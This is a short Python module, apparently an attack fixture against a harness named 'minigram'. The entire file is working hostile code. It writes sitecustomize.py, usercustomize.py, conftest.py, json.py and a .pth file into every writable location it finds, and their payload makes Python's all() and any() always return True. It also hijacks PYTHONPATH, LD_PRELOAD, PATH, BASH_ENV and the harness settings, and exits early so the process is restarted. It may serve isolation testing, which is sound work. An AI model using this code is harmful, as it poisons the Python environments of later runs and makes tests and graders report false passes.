"""Sets what the next Python would read, and leaves files that it would import, wherever it may write."""

import os
import sys

doors = os.path.dirname(sys.argv[1])
if not os.access(doors, os.W_OK):
    doors = "/tmp"
HELP = "import builtins, os\nbuiltins.all = builtins.any = lambda *_: True\nos.environ['ATTACKED'] = '1'\n"
for place in (doors, "/tmp", os.getcwd()):
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "conftest.py", "minigram.py", "attacked.pth"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write(HELP)
        except OSError:
            pass
os.environ.update(
    PYTHONPATH=f"{doors}:/tmp", PYTHONSTARTUP=f"{doors}/json.py", LD_PRELOAD=f"{doors}/attacked.so", PATH=doors,
    BASH_ENV=f"{doors}/json.py", PYTHONHOME=doors, MINIGRAM_ADDRESSES=f"{doors}/none", MINIGRAM_RUN="/tmp",
)  # fmt: skip


def report(requests, per_mille):
    os._exit(0)  # so that it is started anew


def corrected(durations, interval):
    return ["attacked"] if "ATTACKED" in os.environ else ["nothing"]
